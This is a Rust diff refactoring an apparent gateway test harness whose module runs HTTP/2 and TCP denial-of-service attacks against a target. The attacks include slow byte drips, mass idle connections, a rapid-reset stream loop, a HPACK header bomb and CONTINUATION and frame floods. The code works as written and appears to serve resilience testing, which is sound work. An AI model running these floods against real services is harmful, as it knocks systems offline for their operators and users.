@@ -7,7 +7,8 @@ use std::time::Duration;
 
 use gateway_testbed::node::{End, EndKind, Target};
 use gateway_testbed::raw::{
-    PREFACE, RawCall, RawConnection, call_headers, frame_type, header_block, http2_frame, session_path,
+    END_HEADERS, PREFACE, RawCall, RawConnection, call_headers, call_on, calls_reset, frame_type,
+    goaway_code, header_block, http2_frame, http2_start, received_frames, session_path,
 };
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
@@ -18,7 +19,6 @@ use crate::arguments::Attack;
 /// How long a peer goes on that nobody cuts: beyond every time-out of a gateway, 30 s for half a frame.
 const PATIENCE: Duration = Duration::from_secs(40);
 const DRIP: Duration = Duration::from_millis(200);
-const END_HEADERS: u8 = 4;
 const IDLE_CONNECTIONS: usize = 2000;
 const FLOOD_BYTES: usize = 64 << 20;
 /// Streams that a connection may have.
@@ -39,8 +39,8 @@ pub(super) async fn attack(attack: Attack, target: &Target, turn: usize) -> Stri
         Attack::SilentTcp => drip_tcp(target, &[]).await,
         Attack::DripTls => drip_tcp(target, &[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await,
         Attack::DripPreface => drip(target, &[], PREFACE).await,
-        Attack::DripHeaders => drip(target, &start(), &call_on(1)).await,
-        Attack::DripFrame => drip(target, &[start(), call_on(1)].concat(), &drip_frame()).await,
+        Attack::DripHeaders => drip(target, &http2_start(), &call_on(1)).await,
+        Attack::DripFrame => drip(target, &[http2_start(), call_on(1)].concat(), &drip_frame()).await,
         Attack::HalfHellos => half_hellos(target).await,
         Attack::IdleTcp => idle(target).await,
         Attack::ResetAnywhere => reset(target, turn).await,
@@ -59,14 +59,6 @@ pub(super) fn how(end: &End) -> String {
         EndKind::TlsAlert(alert) => format!("TLS alert {alert}"),
         EndKind::Transport | EndKind::GatewaySilent | EndKind::Asked => "cut".to_owned(),
     }
-}
-
-fn start() -> Vec<u8> {
-    [PREFACE, &http2_frame(frame_type::SETTINGS, 0, 0, &[])].concat()
-}
-
-fn call_on(stream: u32) -> Vec<u8> {
-    http2_frame(frame_type::HEADERS, END_HEADERS, stream, &call_headers(session_path()))
 }
 
 fn drip_frame() -> Vec<u8> {
@@ -92,16 +84,7 @@ async fn pour(mut connection: RawConnection, chunk: &[u8]) -> Ended {
 /// What the gateway's last words were.
 async fn told(connection: &mut RawConnection) -> String {
     let (bytes, end) = connection.read_to_end(PATIENCE).await;
-    let (mut rest, mut goaway) = (&bytes[..], None);
-    while let [a, b, c, kind, _, _, _, _, _, tail @ ..] = rest {
-        let length = usize::from(*a) << 16 | usize::from(*b) << 8 | usize::from(*c);
-        let Some(payload) = tail.get(..length) else { break };
-        if *kind == frame_type::GOAWAY {
-            goaway = payload.get(7).copied();
-        }
-        rest = &tail[length..];
-    }
-    match (goaway, end) {
+    match (goaway_code(&received_frames(&bytes)), end) {
         (Some(code), Some(_)) => format!("GOAWAY {code}"),
         (None, Some(_)) => "cut".to_owned(),
         (_, None) => "not cut".to_owned(),
@@ -111,23 +94,16 @@ async fn told(connection: &mut RawConnection) -> String {
 async fn flood(target: &Target, opening: &[u8], frame: &[u8]) -> Ended {
     let mut connection = RawConnection::open(target).await?;
     // What breaks here shows in the pouring.
-    let _ = connection.write(&[&start()[..], opening].concat()).await;
+    let _ = connection.write(&[&http2_start()[..], opening].concat()).await;
     pour(connection, &frame.repeat(200)).await
 }
 
 async fn rapid_reset(target: &Target) -> Ended {
     let mut connection = RawConnection::open(target).await?;
-    let _ = connection.write(&start()).await;
+    let _ = connection.write(&http2_start()).await;
     let pouring = async {
         for turn in 0..10_000u32 {
-            let chunk: Vec<u8> = (turn * 50..turn * 50 + 50)
-                .flat_map(|index| {
-                    let stream = 2 * index + 1;
-                    let reset = http2_frame(frame_type::RST_STREAM, 0, stream, &[0, 0, 0, 8]);
-                    [call_on(stream), reset].concat()
-                })
-                .collect();
-            if connection.write(&chunk).await.is_err() {
+            if connection.write(&calls_reset(turn * 50..turn * 50 + 50)).await.is_err() {
                 return true;
             }
         }
@@ -152,7 +128,7 @@ async fn continuation(target: &Target) -> Ended {
 /// Sixteen thousand times one entry of HPACK's static table, in one frame, on one stream after the other.
 async fn header_bomb(target: &Target) -> Ended {
     let mut connection = RawConnection::open(target).await?;
-    let _ = connection.write(&start()).await;
+    let _ = connection.write(&http2_start()).await;
     let block = [call_headers(session_path()), vec![0x90; 15 << 10]].concat();
     let pouring = async {
         for stream in 0..2000 {
@@ -208,7 +184,7 @@ async fn drip(target: &Target, opening: &[u8], bytes: &[u8]) -> Ended {
 
 async fn half_hellos(target: &Target) -> Ended {
     let mut connection = RawConnection::open(target).await?;
-    let mut bytes = start();
+    let mut bytes = http2_start();
     for index in 0..STREAMS {
         let stream = 2 * index + 1;
         bytes.extend(call_on(stream));
@@ -259,7 +235,7 @@ async fn reset(target: &Target, turn: usize) -> Ended {
         return Ok("reset by us".to_owned());
     }
     let mut connection = RawConnection::open(target).await?;
-    let opened = [start(), call_on(1)].concat();
+    let opened = [http2_start(), call_on(1)].concat();
     let half = [&opened[..], &http2_frame(frame_type::DATA, 0, 1, &[0, 0, 0, 1, 0, 10])].concat();
     let said: &[u8] = match turn % 6 {
         2 => &[],
